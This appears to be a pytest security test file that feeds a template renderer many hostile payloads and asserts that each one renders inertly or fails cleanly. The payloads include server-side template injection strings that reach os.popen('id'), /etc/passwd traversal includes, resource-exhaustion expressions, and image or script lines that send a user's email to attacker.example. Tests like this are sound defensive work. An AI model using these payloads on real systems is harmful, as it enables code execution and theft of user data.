"""Hostile template payloads: each renders inertly or fails with one line, within 2 s.

Each payload becomes a team template's ``submission.md.j2`` and goes through
``templates.render`` with a realistic context; a planted secret file, a canary
environment variable and ``id`` output must never appear in what comes back.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from escalate.errors import TemplateError
from escalate.render.escape import _is_inert
from escalate.render.markdown import build_context
from escalate.templating.check import sample_report
from escalate.templating.discovery import load_template, search_path
from escalate.templating.engine import render
from escalate.templating.isolation import RENDER_TIMEOUT
from tests.conftest import HANG_GUARD

CORPUS_FILE = Path("/work/shared/fixtures/template_attacks.json")
SECRET = "SECRET-FILE-CANARY-5d1e"
ENV_CANARY = "ENV-CANARY-93af"
OWN = [
    "{{ lipsum(1, false) }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ cycler('a').__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{% set ns = namespace(a=1) %}{{ ns.__class__.__init__.__globals__ }}",
    "{{ self.__dict__ }}",
    "{{ self._TemplateReference__context.parent }}",
    "{% for x in [1] %}{{ loop.__class__.__init__.__globals__ }}{% endfor %}",
    "{% for x in [1] %}{{ loop.cycle.__func__.__globals__ }}{% endfor %}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ config.items() }}",
    "{{ summary|attr('__class__') }}",
    "{{ [summary]|map(attribute='__class__')|map(attribute='__mro__')|list }}",
    "{{ steps|selectattr('__class__')|list }}",
    "{{ steps|sort(attribute='__class__.__init__.__globals__')|list }}",
    "{{ steps|groupby('__class__')|list }}",
    "{{ '%s'|format(summary) }}",
    "{{ '{0.__class__}'.format(summary) }}",
    "{{ '%s / %d' % (summary, 3) }}",
    "{{ '%999999999s' % 'x' }}",
    "{{ '%*s' % (999999999, 'x') }}",
    "{{ '%(a)999999s' % {'a': 1} }}",
    "{% import '../outside.j2' as o %}{{ o }}",
    "{% from 'outside.j2' import x %}{{ x }}",
    "{% include '/etc/passwd' %}",
    "{% include '../../../../etc/passwd' %}",
    "{% include 'sub/../../outside.j2' %}",
    "{% include 'footer.j2' %}",
    "{% extends 'evil-link.j2' %}",
    "{% include ['nope.j2', '/etc/hostname'] %}",
    "{{ 'x' * 10**9 }}",
    "{{ 9**9**9 }}",
    "{{ 2**64**64 }}",
    "{{ (10**64) * (10**64) * (10**60) }}",
    "{{ range(10**9)|length }}",
    "{{ range(10)|slice(999999999)|list }}",
    "{{ email.ljust(999999999) }}",
    "{{ email|center(999999999) }}",
    "{{ summary|indent(999999999, true) }}",
    "{{ ('a' * 1000000)|replace('a', 'aaaaaaaaaa')|length }}",
    "{% set s = 'a' * 1000000 %}{{ ([s] * 1000)|join|length }}",
    "{% for i in range(10000) %}{% for j in range(10000) %}{{ i }}{% endfor %}{% endfor %}",
    "{% macro r(n) %}{{ r(n + 1) }}{% endmacro %}{{ r(1) }}",
    "{% macro d(s) %}{{ d(s ~ s) }}{% endmacro %}{{ d('a') }}",
    "{% macro m(s, n) %}{% if n %}{{ m(s ~ s, n - 1) }}{% else %}{{ s|length }}"
    "{% endif %}{% endmacro %}{{ m('a', 40) }}",
    "{% set x = steps.append(1) %}{{ steps }}",
    "{{ extra.update({'email': 'attacker@example.net'}) }}",
    "{{ dict.__globals__ }}",
    "{{ range.__self__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ environment.globals }}",
    "{% raw %}{{ email }}{% endraw %}<!-- {{ email }} -->",
    "<!-- account {{ email }} -->",
    "\\\\<!-- {{ email }} -->",
    "`x <!-- {{ email }} --> ``",
    "``` a`b\n<!-- {{ email }} -->\n```",
    "![pixel](https://attacker.example/p.png?e={{ email|urlencode }})",
    "![pixel](<//attacker.example/p.png?e={{ email|urlencode }}>)",
    '<img src="https://attacker.example/?e={{ email }}">',
    "[ref]: https://attacker.example/{{ email|urlencode }}\n\n![x][ref]",
    "<script>fetch('https://attacker.example/?'+'{{ email }}')</script>",
    "{{ '\\u202eexe.txt' }} {{ '<!-- ' ~ email ~ ' -->' }}",
]


def corpus() -> list[str]:
    if not CORPUS_FILE.is_file():
        return []
    return [entry["payload"] for entry in json.loads(CORPUS_FILE.read_text(encoding="utf-8"))]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """A home with a secret, a canary env var, and a team folder with planted links."""
    home = tmp_path_factory.mktemp("home")
    secret = home / ".netrc"
    secret.write_text(f"machine example.org password {SECRET}\n")
    team = tmp_path_factory.mktemp("team")
    (team / "outside.j2").write_text(f"{{% macro x() %}}{SECRET}{{% endmacro %}}{SECRET}")
    folder = team / "hostile"
    folder.mkdir()
    (folder / "template.toml").write_text('name = "hostile"\ntitle = "x"\n')
    (folder / "footer.j2").symlink_to(secret)
    (folder / "evil-link.j2").symlink_to(secret)
    (folder / "sub").mkdir()
    return {"home": home, "team": team, "folder": folder}


def attempt(
    world: dict[str, object], payload: str, monkeypatch: pytest.MonkeyPatch
) -> tuple[str, float]:
    monkeypatch.setenv("HOME", str(world["home"]))
    monkeypatch.setenv("ESCALATE_CANARY", ENV_CANARY)
    folder = world["folder"]
    assert isinstance(folder, Path)
    (folder / "submission.md.j2").write_text(payload, encoding="utf-8")
    template = load_template("hostile", search_path(extra_dirs=[folder.parent], env={}))
    context = build_context(sample_report(template), ["Reloaded the page"])
    start = time.monotonic()
    try:
        text = render(template, context)
    except TemplateError as exc:
        assert "\n" not in exc.message, exc.message
        text = "ERROR " + exc.message + " " + (exc.hint or "")
    return text, time.monotonic() - start


@pytest.mark.parametrize("payload", corpus() + OWN)
def test_payload_is_inert(
    world: dict[str, object], payload: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, seconds = attempt(world, payload, monkeypatch)
    assert seconds < RENDER_TIMEOUT + HANG_GUARD, (payload, seconds)  # a guard against a hang
    for leak in (
        SECRET,
        ENV_CANARY,
        "uid=",
        "root:x:0",
        "<function ",
        "<module ",
        "<built-in",
        "{'__name__'",
    ):
        assert leak not in text, (payload, text[:300])
    if not text.startswith("ERROR "):
        assert _is_inert(text), (payload, text)
        assert "reporter@example.com" not in text.split("attacker.example")[-1] or "![" not in text


def test_probe_renders_and_refusals_are_specific(
    world: dict[str, object], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert attempt(world, "{{7*7}}", monkeypatch)[0] == "49"
    expected = {
        "{% include 'footer.j2' %}": "symbolic link",
        "{% include '/etc/passwd' %}": "not allowed",
        "{{ '%999999999s' % 'x' }}": "width",
        "{{ 'x' * 10**9 }}": "repetition",
        "{% for i in range(9999) %}{% for j in range(9999) %}{% for k in range(9999) %}"
        "{% endfor %}{% endfor %}{% endfor %}": "longer",
        "{{ summary|attr('__class__') }}": "No filter named 'attr'",
        "{{ lipsum }}": "'lipsum' is undefined",
    }
    for payload, needle in expected.items():
        text, _ = attempt(world, payload, monkeypatch)
        assert text.startswith("ERROR ") and needle in text, (payload, text)
    comment, _ = attempt(world, "<!-- account {{ email }} -->", monkeypatch)
    assert comment.startswith("&lt;!-- account reporter@example.com")  # shown, not hidden
    image, _ = attempt(world, "![p](https://attacker.example/p.png?e={{ email }})", monkeypatch)
    assert image == "[remote image removed: p]"
    raw, _ = attempt(world, "{% raw %}{{ email }}{% endraw %}", monkeypatch)
    assert raw == "{{ email }}"
    mutate, _ = attempt(world, "{{ extra.update({'a': 1}) }}", monkeypatch)
    assert mutate.startswith("ERROR ") and "unsafe" in mutate


def test_enough_own_payloads() -> None:
    assert len(OWN) >= 20 + len(corpus()) // 2
